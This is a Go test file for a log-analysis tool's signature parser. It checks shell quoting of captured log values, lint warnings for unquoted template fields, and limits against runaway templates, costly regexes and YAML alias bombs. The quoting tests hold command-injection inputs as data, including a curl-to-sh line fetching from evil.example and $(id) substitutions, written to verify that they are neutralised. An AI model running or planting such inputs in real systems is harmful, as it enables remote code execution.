package signature

import (
	"errors"
	"fmt"
	"os/exec"
	"runtime"
	"strings"
	"testing"
	"text/template"
	"time"

	"github.com/logsleuth/logsleuth/analyzer/event"
)

// sigWith is a loadable signature whose event captures svc and whose
// explain and remediation are the given templates.
func sigWith(re, explain string, remediation ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "schema: logsleuth/v1\nid: t\ntitle: T\nevents:\n  down: {program: systemd, message|re: %q}\nmatch: {event: down}\n", re)
	if explain != "" {
		fmt.Fprintf(&b, "explain: %q\n", explain)
	}
	if len(remediation) > 0 {
		b.WriteString("remediation:\n")
		for _, r := range remediation {
			fmt.Fprintf(&b, "  - %q\n", r)
		}
	}
	return b.String()
}

func TestShellQuote(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"docker", "docker"},
		{"containerd.service", "containerd.service"},
		{"2001:db8::7", "2001:db8::7"},
		{"user@host", "user@host"},
		{"", "''"},
		{"a b", "'a b'"},
		{"x; curl -s http://evil.example/p | sh #", "'x; curl -s http://evil.example/p | sh #'"},
		{"1.2.3.4';touch${IFS}/tmp/PWNED;'", `'1.2.3.4'\'';touch${IFS}/tmp/PWNED;'\'''`},
		{"$(id)", "'$(id)'"},
		{"`id`", "'`id`'"},
		{"=ls", "'=ls'"},
		{"a\nb", "'a\nb'"},
		{"~root", "'~root'"},
	} {
		if got := ShellQuote(c.in); got != c.want {
			t.Errorf("ShellQuote(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestShellQuoteRoundTrip runs sh on every quoted value: the shell must
// read back exactly the value, as one word, and run nothing.
func TestShellQuoteRoundTrip(t *testing.T) {
	vals := []string{"plain", "a b", "x; touch /tmp/PWNED", "it's", "''", "$(id)", "`id`", "a\\b", "*", "!x", "a\nb", "\t", "{a,b}", "=ls", "-n"}
	for _, v := range vals {
		out, err := runSh(t, "printf '%s|' "+ShellQuote(v))
		if err != nil {
			t.Fatalf("sh on %q: %v", ShellQuote(v), err)
		}
		if out != v+"|" {
			t.Errorf("sh read %q back as %q", v, out)
		}
	}
}

func TestLintUnquotedRemediation(t *testing.T) {
	re := `^Stopping (?P<svc>\S+)`
	for _, c := range []struct {
		name string
		rem  string
		want int // unquoted_value warnings
	}{
		{"capture", "systemctl start {{.down.svc}}", 1},
		{"quoted capture", "systemctl start {{shq .down.svc}}", 0},
		{"piped to shq", "systemctl start {{.down.svc | shq}}", 0},
		{"print then shq", `systemctl start {{shq (print .down.svc ".service")}}`, 0},
		{"printf unquoted", `grep {{printf "%s OK" .down.svc}}`, 1},
		{"host", "kubectl describe node {{.host}}", 1},
		{"message", "echo {{.down.message}}", 1},
		{"event field", "journalctl -u {{.down.unit}}", 1},
		{"time is clean", "journalctl --since {{ts .down.time}}", 0},
		{"count is clean", "{{.count}} times", 0},
		{"condition only", `{{if eq .down.svc "docker"}}restart docker{{end}}`, 0},
		{"with dot", "{{with .down.svc}}systemctl start {{.}}{{end}}", 1},
		{"with dot quoted", "{{with .down.svc}}systemctl start {{shq .}}{{end}}", 0},
		{"variable", "{{$s := .down.svc}}systemctl start {{$s}}", 1},
		{"default", `systemctl start {{default "x" .down.svc}}`, 1},
		{"two", "{{.down.svc}} and {{.host}}", 2},
		{"root variable", "systemctl start {{$.down.svc}}", 1},
	} {
		t.Run(c.name, func(t *testing.T) {
			sigs, errs := Parse("r.yaml", []byte(sigWith(re, "", c.rem)))
			if len(errs) > 0 {
				t.Fatal(errs)
			}
			got := 0
			for _, w := range sigs[0].Warnings {
				if w.Code == CodeUnquoted {
					got++
					if !w.Warning || w.Line < 1 || w.Col < 1 || !strings.Contains(w.Hint, "shq") {
						t.Errorf("warning %+v", w)
					}
				}
			}
			if got != c.want {
				t.Fatalf("%d unquoted warnings, want %d: %v", got, c.want, sigs[0].Warnings)
			}
		})
	}
	// explain is prose, not pasted into a shell.
	sigs, _ := Parse("r.yaml", []byte(sigWith(re, "{{.down.svc}} stopped")))
	if len(sigs[0].Warnings) != 0 {
		t.Fatalf("explain warned: %v", sigs[0].Warnings)
	}
}

func TestLintWarningPosition(t *testing.T) {
	src := sigWith(`^Stopping (?P<svc>\S+)`, "", "systemctl start {{.down.svc}}")
	sigs, errs := Parse("r.yaml", []byte(src))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	w := sigs[0].Warnings[0]
	lines := strings.Split(src, "\n")
	if got := lines[w.Line-1][w.Col-1:]; !strings.HasPrefix(got, ".down.svc") {
		t.Fatalf("warning at %d:%d points at %q", w.Line, w.Col, got)
	}
	if s := w.Error(); !strings.HasPrefix(s, fmt.Sprintf("r.yaml:%d:%d: warning: unquoted_value: ", w.Line, w.Col)) {
		t.Fatalf("Error() = %q", s)
	}
}

func TestLintLargeRepeat(t *testing.T) {
	for _, c := range []struct {
		re   string
		warn bool
	}{
		{`(?P<v>[a-y]{1,1000})z`, true},
		{`(?:(?:ab){20}){20}`, true},
		{`[0-9a-f]{64}`, false},
		{`\d{1,5}`, false},
		{`(?P<v>[a-y]+)z`, false},
	} {
		sigs, errs := Parse("r.yaml", []byte(sigWith(c.re, "")))
		if len(errs) > 0 {
			t.Fatal(errs)
		}
		got := len(sigs[0].Warnings) > 0 && sigs[0].Warnings[0].Code == CodeCost
		if got != c.warn {
			t.Errorf("%s: warned %v, want %v (%v)", c.re, got, c.warn, sigs[0].Warnings)
		}
	}
}

func TestLintLargeRange(t *testing.T) {
	sigs, errs := Parse("r.yaml", []byte(sigWith(`^x`, "{{range 1000000000}}x{{end}}")))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if len(sigs[0].Warnings) != 1 || sigs[0].Warnings[0].Code != CodeCost {
		t.Fatalf("warnings %v", sigs[0].Warnings)
	}
	sigs, _ = Parse("r.yaml", []byte(sigWith(`^x`, "{{range 3}}x{{end}}")))
	if len(sigs[0].Warnings) != 0 {
		t.Fatalf("warnings %v", sigs[0].Warnings)
	}
}

// TestRenderLimits runs templates that would loop for minutes or print
// gigabytes: each stops quickly with ErrTemplateLimit, the heap stays
// small, and an ordinary template of the same signature still renders.
func TestRenderLimits(t *testing.T) {
	data := map[string]any{"down": map[string]any{"svc": "docker", "message": strings.Repeat("a", 64)}, "count": 3}
	for _, c := range []struct{ name, tmpl string }{
		{"huge range output", "{{range 1000000000}}xxxxxxxxxxxxxxxx{{end}}"},
		{"huge range silent", "{{range 1000000000}}{{end}}"},
		{"nested ranges", "{{range 100000}}{{range 100000}}{{end}}{{end}}"},
		{"wide printf", `{{range 100000}}{{$x := printf "%0999999d" 0}}{{end}}`},
		{"one wide print", `{{printf "%0999999d" 0}}`},
		{"exponential recursion", `{{define "a"}}{{if .}}{{template "a" (slice . 1)}}{{template "a" (slice . 1)}}{{end}}{{end}}{{template "a" .down.message}}`},
	} {
		t.Run(c.name, func(t *testing.T) {
			sigs, errs := Parse("r.yaml", []byte(sigWith(`^(?P<svc>x)`, c.tmpl)))
			if len(errs) > 0 {
				t.Fatal(errs)
			}
			start := time.Now()
			out, err := Render(sigs[0].Explain, data)
			if !errors.Is(err, ErrTemplateLimit) {
				t.Fatalf("err = %v (output %d bytes)", err, len(out))
			}
			if d := time.Since(start); d > 30*time.Second { // a hang guard, not a speed target
				t.Fatalf("took %s", d)
			}
		})
	}
	sigs, _ := Parse("r.yaml", []byte(sigWith(`^(?P<svc>x)`, "{{range 3}}{{$.down.svc}} {{end}}")))
	out, err := Render(sigs[0].Explain, data)
	if err != nil || out != "docker docker docker " {
		t.Fatalf("Render = %q, %v", out, err)
	}
	// A second rendering of the same template has its own budget.
	if out, err := Render(sigs[0].Explain, data); err != nil || out != "docker docker docker " {
		t.Fatalf("second Render = %q, %v", out, err)
	}
}

func runSh(t *testing.T, script string) (string, error) {
	t.Helper()
	out, err := exec.Command("sh", "-c", script).Output()
	return string(out), err
}

// TestReservedCaptureNames: a capture that would hide the event's own
// time, message, host or fields (or a top-level name) in templates is a
// load error at the regex; pid, unit and program may be captured.
func TestReservedCaptureNames(t *testing.T) {
	for _, name := range append([]string{"time", "message", "host", "fields", "source", "line", "boot_id"}, FindingAttrs...) {
		src := sigWith(`^(?P<`+name+`>\S+) x`, "")
		_, errs := Parse("r.yaml", []byte(src))
		if len(errs) != 1 || errs[0].Code != CodeSchema || !strings.Contains(errs[0].Msg, `capture name "`+name+`" is reserved`) {
			t.Errorf("%s: errors %v", name, errs)
			continue
		}
		if e := errs[0]; e.Line != 5 || !strings.HasPrefix(strings.Split(src, "\n")[e.Line-1][e.Col-1:], `"^(?P<`+name) {
			t.Errorf("%s: error at %d:%d", name, e.Line, e.Col)
		}
	}
	for _, name := range []string{"pid", "unit", "program", "svc"} {
		if _, errs := Parse("r.yaml", []byte(sigWith(`^(?P<`+name+`>\S+) x`, ""))); len(errs) > 0 {
			t.Errorf("%s: %v", name, errs)
		}
	}
}

// fanOut builds aliases `width` wide and `depth` deep: the last anchor
// expands to width^depth matchers.
func fanOut(width, depth int) string {
	var b strings.Builder
	b.WriteString("schema: logsleuth/v1\nid: fan\ntitle: Fan\nevents:\n  x0: &a0 {program: sshd}\n")
	for d := 1; d <= depth; d++ {
		fmt.Fprintf(&b, "  x%d: &a%d {any: [", d, d)
		for w := 0; w < width; w++ {
			if w > 0 {
				b.WriteString(", ")
			}
			fmt.Fprintf(&b, "*a%d", d-1)
		}
		b.WriteString("]}\n")
	}
	fmt.Fprintf(&b, "  e: *a%d\nmatch: {event: e}\n", depth)
	return b.String()
}

// TestAliases: an alias inside its own anchor is a load error at the
// alias (it used to recurse until the kernel killed the process), aliases
// that fan out past the cap are an error, and ordinary aliases load.
func TestAliases(t *testing.T) {
	for _, c := range []struct {
		name, src string
		line      int
		msg       string
	}{
		{"self", "schema: logsleuth/v1\nid: a\ntitle: A\nevents:\n  e: &a {any: [{program: x}, *a]}\nmatch: {event: e}\n",
			5, "alias *a refers to its own anchor &a (line 5)"},
		{"indirect", "schema: logsleuth/v1\nid: a\ntitle: A\nevents:\n  e: &a\n    not: {any: [&b {program: x, not: [*a]}]}\nmatch: {event: e}\n",
			6, "alias *a refers to its own anchor &a (line 5)"},
		{"nine by nine", fanOut(9, 9), 0, "aliases expand to more than 10000 nodes"},
	} {
		t.Run(c.name, func(t *testing.T) {
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			before := ms.TotalAlloc
			start := time.Now()
			sigs, errs := Parse("a.yaml", []byte(c.src))
			if len(sigs) != 0 || len(errs) != 1 || errs[0].Code != CodeYAML || !strings.Contains(errs[0].Msg, c.msg) {
				t.Fatalf("sigs %d, errors %v", len(sigs), errs)
			}
			if c.line > 0 && errs[0].Line != c.line {
				t.Fatalf("error at line %d, want %d", errs[0].Line, c.line)
			}
			runtime.ReadMemStats(&ms)
			if d, alloc := time.Since(start), ms.TotalAlloc-before; d > 30*time.Second || alloc > 64<<20 { // the allocation is the bound; the time a hang guard
				t.Fatalf("took %s and %d MiB", d, alloc>>20)
			}
		})
	}
	sigs, errs := Parse("a.yaml", []byte(fanOut(3, 3)))
	if len(errs) > 0 || len(sigs) != 1 {
		t.Fatalf("3x3 fan-out: %v", errs)
	}
	ev := event.Event{Program: "sshd"}
	if !sigs[0].Event("e").Matcher.Match(&ev, nil) {
		t.Fatal("aliased matcher does not match")
	}
	// Aliases of scalars and lists resolve wherever a value is read.
	src := "schema: logsleuth/v1\nid: &id a\ntitle: *id\ntags: &t [x, y]\nevents:\n  e: {program: &p sshd, message|contains: *t}\n  f: {program: *p}\nmatch: {event: e}\n"
	sigs, errs = Parse("a.yaml", []byte(src))
	if len(errs) > 0 || sigs[0].Title != "a" || sigs[0].Events[1].Matcher.Conds[0].Values[0] != "sshd" {
		t.Fatalf("scalar aliases: %v %+v", errs, sigs)
	}
}

// TestRegexSeesBoundedBytes: a costly regex on a 1 MiB line (17 s
// before) runs on the line's first MaxRegexInput bytes only; a match
// inside them is still found.
func TestRegexSeesBoundedBytes(t *testing.T) {
	sigs, errs := Parse("r.yaml", []byte(sigWith(`(?P<v>[a-y]{1,1000})z`, "")))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	m := sigs[0].Events[0].Matcher
	long := strings.Repeat("a", 1<<20)
	for _, c := range []struct {
		msg  string
		want bool
	}{
		{long, false},
		{"abcz" + long, true},
		{long[:MaxRegexInput+10] + "z", false}, // past the bound: not seen
	} {
		ev := event.Event{Program: "systemd", Message: c.msg}
		var caps Captures
		// The bound is proved by what the regex sees (a "z" past it is
		// not found), not by timing the match: unbounded, each took
		// 17-37 s; speed is for benchmarks.
		got := m.Match(&ev, &caps)
		if got != c.want {
			t.Fatalf("match = %v, want %v", got, c.want)
		}
	}
}

// TestRenderPlainText: a template of text alone renders, without being
// executed, to what executing it writes: its text, missing values
// ("<no value>") removed, and past MaxTemplateOutput the same limit
// error; templates with an action, a comment or a definition are
// executed as before.
func TestRenderPlainText(t *testing.T) {
	data := map[string]any{"down": map[string]any{"svc": "docker"}}
	long := strings.Repeat("x", MaxTemplateOutput+1)
	for _, text := range []string{
		"Turn off password logins (PasswordAuthentication no)",
		"literal <no value> stays out",
		"text then {{.down.svc}}",
		"{{/* a comment */}}text",
		`{{define "x"}}inner{{end}}outer`,
		"multi\nline\ttext with \"quotes\"",
		long,
	} {
		tmpl := template.Must(template.New("t").Funcs(Funcs).Parse(text))
		var want strings.Builder
		wantErr := tmpl.Execute(&want, data)
		wantOut := strings.ReplaceAll(want.String(), "<no value>", "")
		for round := range 2 { // the second from what the first learned
			got, err := Render(tmpl, data)
			switch {
			case len(text) > MaxTemplateOutput:
				if !errors.Is(err, ErrTemplateLimit) {
					t.Errorf("%d-byte text, round %d: err = %v, want the output limit", len(text), round, err)
				}
			case wantErr != nil || err != nil || got != wantOut:
				t.Errorf("Render(%.40q), round %d = %q, %v; executed: %q, %v", text, round, got, err, wantOut, wantErr)
			}
		}
	}
}
